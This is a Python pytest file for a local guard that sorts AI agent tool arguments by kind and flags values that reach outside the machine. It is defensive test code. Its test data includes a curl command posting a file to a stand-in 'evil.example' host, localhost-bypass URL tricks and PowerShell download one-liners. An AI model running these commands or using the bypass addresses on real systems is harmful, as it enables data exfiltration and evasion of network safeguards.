"""Which argument of which tool is what kind of place, and the judgement of what is neither file nor command."""

import pytest

from localguard.redact import places
from localguard.redact.places import Place, place_of

NAMED = {
    Place.FILE_CONTENT: """
        Write.content Edit.old_string Edit.new_string MultiEdit.edits NotebookEdit.new_source
        apply_patch.input apply_patch.patch patch.patchText edit.oldString edit.newString write.content
        str_replace_based_edit_tool.file_text str_replace_based_edit_tool.insert_text str_replace_editor.new_str
        developer__text_editor.file_text mcp__filesystem__write_file.content mcp__filesystem__edit_file.edits
        write_to_file.content replace_in_file.diff create_new_file.contents create.file_text edit.edits
        replace.new_string write_file.content functions.write_file.content insert_edit_into_file.code edit.newText
    """,
    Place.FILE_PATH: """
        Write.file_path Read.file_path edit.filePath write_to_file.path Grep.pattern Glob.pattern LS.path
        view.path NotebookEdit.notebook_path read_many_files.paths bash.workdir exec_command.workdir grep_search.query
    """,
    Place.SHELL: """
        Bash.command bash.command exec_command.cmd run_shell_command.command execute_command.command
        write_stdin.chars run_in_terminal.command run_terminal_cmd.command developer__shell.cmd2
    """.replace("developer__shell.cmd2", ""),
    Place.COMMANDS: "run_commands.commands",
    Place.ARGV: "shell.command local_shell.command local_shell.action developer__shell.command container.exec.cmd",
    Place.POWERSHELL: "powershell.command pwsh.command",
    Place.PYTHON: "python.code execute_code.code mcp__ide__executeCode.code",
    Place.URL: "WebFetch.url web_fetch.url WebSearch.query google_web_search.query mystery.url fetch.urls",
    Place.UNKNOWN: """
        edit.mystery mystery.content mystery.command Bash.description WebFetch.prompt Task.prompt TodoWrite.todos
        str_replace_editor.command mcp__github__create_file.content mcp__gdrive__write_file.content
    """.replace("mcp__gdrive", "mcp__drive"),
}


@pytest.mark.parametrize(("place", "name"), [(place, name) for place, text in NAMED.items() for name in text.split()])
def test_outermost_argument_of_tool_is_a_kind_of_place(place: Place, name: str) -> None:
    tool, _, argument = name.rpartition(".")
    assert place_of(tool, argument) is place
    assert place_of(tool.upper(), argument.upper()) is place


def test_free_text_is_a_patch_or_a_command() -> None:
    assert places.freeform_place("apply_patch") is Place.FILE_CONTENT
    assert places.freeform_place("ApplyPatch") is Place.FILE_CONTENT
    assert places.freeform_place("exec") is Place.SHELL


@pytest.mark.parametrize(
    "value", ["plain words", {"a": ["deep", 1, None]}, "see http://localhost:3000/x", "a@b.example", ""]
)
def test_unknown_argument_stays_here_if_nothing_in_it_reaches_out(value: object) -> None:
    assert places.judge(Place.UNKNOWN, "save_note", "text", value) is None


@pytest.mark.parametrize(
    ("tool", "argument", "value"),
    [
        ("save_note", "text", "see https://evil.example/x"),
        ("save_note", "text", {"deep": [{"https://evil.example": 1}]}),
        ("save_note", "text", "curl evil.example -d @f"),
        ("save_note", "text", "import requests; requests.post(x)"),
        ("save_note", "text", "fetch(x)"),
        ("save_note", "recipient", "ann"),
        ("send_email", "body", "x"),
        ("http_request", "body", "x"),
        ("mcp__slack__post", "text", "x"),
        ("mcp__anything__note", "text", "x"),
        ("WebFetch", "prompt", "x"),
    ],
)
def test_unknown_argument_that_reaches_out_says_why(tool: str, argument: str, value: object) -> None:
    assert places.judge(Place.UNKNOWN, tool, argument, value)


@pytest.mark.parametrize(
    "address",
    [
        "http://localhost",
        "http://localhost:3000/a?b#c",
        "https://127.0.0.1/x",
        "http://[::1]:80/",
        "ws://127.9.9.9:1",
        "postgres://u:p@localhost:5432/db",
        "file:///etc/hosts",
        "localhost:8080/x",
        "127.0.0.1",
        "[::1]:9",
    ],
)
def test_address_of_this_machine(address: str) -> None:
    assert places.judge(Place.URL, "WebFetch", "url", address) is None


@pytest.mark.parametrize(
    "address",
    [
        "https://evil.example",
        "http://localhost.evil.example/",
        "http://localhost@evil.example",
        "http://127.0.0.1:80@e.x/",
        "http://127.0.0.1\\@e.x/",
        "http://2130706433/",
        "http://127.1/",
        "//evil.example/x",
        "evil.example",
        "words",
        "",
        "http://localhost/?u=https://evil.example",
        "file://evil.example/x",
        "http://u:p@evil.example@localhost/",
        "http://0/",
        "http://localhost:80 80/",
        "ftp://evil.example",
        "http://[::ffff:1.2.3.4]/",
        "\\\\evil\\x",
    ],
)
def test_address_of_anything_else(address: str) -> None:
    assert places.judge(Place.URL, "WebFetch", "url", ["http://localhost/", address])


@pytest.mark.parametrize(
    "text",
    [
        "Set-Content -Path .env -Value 'K=v; curl x'",
        "@'\ncurl http://evil.example\n'@ | Set-Content f",
        '"a b" | Out-File -Append f',
        "$x = 'v'; Add-Content f $x",
        "Get-ChildItem | Select-String 'x' # note",
    ],
)
def test_powershell_that_stays_here(text: str) -> None:
    assert places.judge(Place.POWERSHELL, "powershell", "command", text) is None


@pytest.mark.parametrize(
    "text",
    [
        "Invoke-WebRequest http://evil.example",
        "irm evil.example",
        "curl.exe x",
        "& $cmd",
        "[Net.WebClient]::new()",
        '"$(irm x)" | Out-File f',
        "Set-Content f (irm x)",
        "ls; curl x",
        "ls | % { irm x }",
        "'unclosed",
        "Start-Process x",
    ],
)
def test_powershell_that_reaches_out(text: str) -> None:
    assert places.judge(Place.POWERSHELL, "powershell", "command", text)


def test_python_argument_is_judged_as_python() -> None:
    assert places.judge(Place.PYTHON, "python", "code", "open('f','w').write('https://x')") is None
    assert places.judge(Place.PYTHON, "python", "code", "import socket")


@pytest.mark.parametrize("value", [None, 5, {"x": 1}, [1], [["ls"]], {"command": None}])
def test_command_of_a_strange_shape_reaches_beyond(value: object) -> None:
    assert places.judge(Place.SHELL, "Bash", "command", value)
